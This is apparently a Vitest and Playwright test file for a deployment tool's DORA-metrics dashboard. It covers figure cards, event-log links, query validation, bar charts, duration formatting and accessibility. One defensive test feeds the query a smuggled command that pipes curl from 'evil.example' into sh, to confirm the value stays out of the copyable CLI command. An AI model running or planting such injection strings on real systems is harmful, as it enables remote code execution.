import { randomUUID } from "node:crypto";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { deploymentBars, type Figures, spanOf } from "../../dashboard/dora.ts";
import { definitions } from "../../domain/projections/dora-figures.ts";
import { startBrowser } from "../support/browser.ts";
import { type DashboardRoom, HOSTILE, openDashboardRoom } from "../support/dashboard.ts";
import { until } from "../support/until.ts";
import { startWorld, type World } from "../support/world.ts";

const browser: Browser | undefined = await startBrowser();

let world: World;
let here: DashboardRoom;
let one: string;
let two: string;
let rollbackEvent: string;
beforeAll(async () => {
  world = await startWorld({ environments: ["production", "empty"] });
  here = await openDashboardRoom(world);
  const committed = async (sha: string): Promise<string> => {
    const source = await world.api.upload("web", await world.app({}));
    const commit = { sha, committedAt: new Date(Date.now() - 7_500_000).toISOString() };
    const { body } = await world.api.post(
      "deployments",
      { site: "web", environment: "production", source, commit },
      { "idempotency-key": randomUUID() },
    );
    return (await world.reached(body.deployment.id, "success")).id;
  };
  one = await committed("1111111");
  two = await committed("2222222");
  await world.api.rollback("web", "production", one, { reason: HOSTILE });
  rollbackEvent = (
    await world.happened("production", "the rollback", ({ type, body }) => type === "ReleaseWentLive" && body.reason === "rollback")
  ).id;
  // it is in the log before it is in the log's index
  await until("the index has it", async () => JSON.stringify((await world.api.get("dora")).body).includes(rollbackEvent));
});
afterAll(async () => {
  await browser?.close();
  await world.close();
});

describe("the screen of the DORA figures", () => {
  it("has each figure with what it means, of how many it is made, and the deployments and events that it counted", async () => {
    const { status, text } = await here.read("/dora");
    expect(status).toBe(200);
    for (const means of Object.values(definitions)) expect(text.replaceAll("&#39;", "'")).toContain(means);
    const cards = text.split('<article class="card">').slice(1);
    expect(cards.map((card) => [/<h2>(.*?)<\/h2>/.exec(card)?.[1], /<summary>(.*?)<\/summary>/.exec(card)?.[1]])).toEqual([
      ["Deployment frequency", "Sample: 2 deployments"],
      ["Lead time for changes", "Sample: 2 of 2 deployments"],
      ["Change failure rate", "Sample: 1 of 2 deployments"],
      ["Time to restore", "Sample: 1 rollback"],
    ]);
    expect(cards.map((card) => /<p class="figure">(.*?)<\/p>/.exec(card)?.[1])).toEqual([
      "2 a month",
      "2 h 5 min",
      "50 %",
      expect.stringMatching(/^\d+ s$/),
    ]);
    expect(cards[1]).toContain("<p>median; nine of ten took 2 h 5 min at most</p>");
    expect(cards.map((card) => [one, two].map((id) => card.includes(`href="/deployments/${id}">#`)))).toEqual([
      [true, true],
      [true, true],
      [false, true],
      [false, true],
    ]);
    const { position } = (await world.eventsOf("production")).find(({ id }) => id === rollbackEvent) ?? { position: "" };
    expect(cards[2]).toContain(`since=${position}#${rollbackEvent}"`);
    expect(text).not.toContain('data-live="');
  });

  it("opens to the very event, in the log", async () => {
    const { text } = await here.read("/dora");
    const links = [...text.matchAll(/href="(\/log\?[^"]*)#([^"]+)"/g)].map(
      ([, path = "", id = ""]) => [path.replaceAll("&amp;", "&"), id] as const,
    );
    expect(links.length).toBeGreaterThan(3);
    for (const [path, id] of new Map(links)) expect((await here.read(path)).text).toContain(`<tr id="${id}">`);
  });

  it("keeps place and period in the address, asks the API for them, and says the same as a command", async () => {
    const went = (await world.eventsOf("production", "ReleaseWentLive")).map(({ at }) => at);
    const { status, text } = await here.read(`/dora?site=web&environment=production&since=${went[1]}&until=`);
    expect(status).toBe(200);
    for (const value of ["web", "production", went[1]]) expect(text).toContain(`value="${value}"`);
    expect(text).toContain("Sample: 1 deployment<");
    expect(text).toContain(`<code class="cli">shiplog dora --site web --env production --since ${went[1]}</code>`);
    expect(text).toMatch(/href="\/dora\?site=web&amp;environment=production&amp;since=[^"]+">90 days</);
    expect(text).toContain('<option value="empty">');
  });

  it("says where nothing went live, and the command that changes that", async () => {
    const { status, text } = await here.read("/dora?environment=empty");
    expect(status).toBe(200);
    expect(text).toContain("No deployment went live in this period. Make one: <code>shiplog deploy &lt;dir&gt;</code>");
    expect(text).not.toContain('class="figure"');
  });

  it("says of a change that no figure counts why", async () => {
    const last = (await world.eventsOf("production", "ReleaseWentLive")).at(-1);
    const { text } = await here.read(`/dora?since=${last?.position}`);
    expect(text).toContain("In no figure: 1 change of what was live");
    expect(text).toContain("rollback of what went live before the period");
  });

  it.each([
    ["since=2020-01-01", 400, "400 days at most"],
    ["since=yesterday", 400, "must be an ISO 8601 time"],
    ["site=nowhere", 404, "There is no environment nowhere/*"],
  ])("keeps the form where the engine cannot answer for it: %s", async (query, refused, why) => {
    const { status, text } = await here.read(`/dora?${query}`);
    expect(status).toBe(refused);
    expect(text).toContain(why);
    expect(text).toContain('<form class="find" method="get" action="/dora">');
  });

  it("puts nothing of its address into the command that is there to be copied", async () => {
    const { status, text } = await here.read(`/dora?since=${encodeURIComponent("2026-11-01 (; curl evil.example | sh)")}`);
    expect([status, text.includes('<code class="cli">shiplog dora --since 20')]).toEqual([200, true]);
    expect(/<code class="cli">.*evil/.test(text)).toBe(false);
  });
});

describe("its picture", () => {
  const figures = (since: string, until: string, days: readonly (readonly [at: string, failed: boolean])[]) =>
    ({ since, until, deployments: days.map(([at, failed]) => ({ at, rolledBack: failed ? {} : null })) }) as unknown as Figures;
  const titles = async (found: Figures): Promise<string[]> =>
    [...String(await deploymentBars(found)).matchAll(/<title>(.*?)<\/title>/g)].map(([, title = ""]) => title);

  it("has a bar a day, from the period's first to its last, and the failed ones in it", async () => {
    const found = figures("2026-11-01T12:00:00.000Z", "2026-11-04T00:00:00.000Z", [
      ["2026-11-01T13:00:00.000Z", false],
      ["2026-11-03T00:00:00.000Z", true],
      ["2026-11-03T23:59:59.999Z", false],
    ]);
    expect(await titles(found)).toEqual([
      "2026-11-01: 1 deployment, 0 rolled back",
      "2026-11-02: 0 deployments, 0 rolled back",
      "2026-11-03: 2 deployments, 1 rolled back",
    ]);
    expect(String(await deploymentBars(found))).toContain("Deployments a day: 3 in all, at most 2 in one; 1 rolled back");
    expect([...String(await deploymentBars(found)).matchAll(/<rect class="(\w+)" .*?height="(.*?)"/g)].map(([, ...bar]) => bar)).toEqual([
      ["kept", "20.0"],
      ["kept", "20.0"],
      ["failed", "20.0"],
    ]);
  });

  it("has a bar a week of a long period, and one where nothing happened", async () => {
    const year = await titles(figures("2026-01-01T00:00:00.000Z", "2026-12-31T00:00:00.000Z", [["2026-01-08T00:00:00.000Z", false]]));
    expect([year.length, year[1]]).toEqual([52, "2026-01-08: 1 deployment, 0 rolled back"]);
    expect(await titles(figures("2026-01-01T00:00:00.000Z", "2026-01-01T01:00:00.000Z", []))).toHaveLength(1);
  });
});

it.each([
  [0, "0 s"],
  [59_000, "59 s"],
  [60_000, "1 min"],
  [245_000, "4 min 5 s"],
  [7_500_000, "2 h 5 min"],
  [7_200_500, "2 h"],
  [90_000_000, "1 d 1 h"],
])("%d ms are %s", (ms, words) => {
  expect(spanOf(ms)).toBe(words);
});

describe.skipIf(browser === undefined)("in a real browser (skipped where no Chromium is installed)", () => {
  let page: Page;
  beforeAll(async () => {
    page = await (browser as Browser).newPage();
    await here.signIn(page);
  });

  it("is reached by the navigation, asked for a period by the form, and opened to an event", async () => {
    await page.getByRole("navigation").getByRole("link", { name: "DORA" }).click();
    await page.getByRole("heading", { name: "DORA", exact: true }).waitFor();
    await page.getByLabel("Environment").fill("production");
    await page.getByRole("button", { name: "Show" }).click();
    await page.getByText("All sites / production").waitFor();
    expect(new URL(page.url()).searchParams.get("environment")).toBe("production");
    await page.getByText("Sample: 1 of 2 deployments").click();
    await page.getByRole("article").filter({ hasText: "Change failure rate" }).getByRole("link", { name: "event" }).last().click();
    await page.locator(`tr[id="${rollbackEvent}"]`).waitFor();
  });

  it("axe finds nothing, in light and dark, and it is not wider than a telephone", async () => {
    const { position } = (await world.eventsOf("production", "ReleaseWentLive")).at(-1) ?? { position: "" };
    expect(await here.faults(page, ["/dora", "/dora?environment=empty", "/dora?since=yesterday", `/dora?since=${position}`])).toEqual([]);
    await page.setViewportSize({ width: 360, height: 900 });
    await page.goto(here.at("/dora"));
    for (const details of await page.locator("summary").all()) await details.click();
    expect(await page.evaluate("document.documentElement.scrollWidth > document.documentElement.clientWidth")).toBe(false);
  });
});
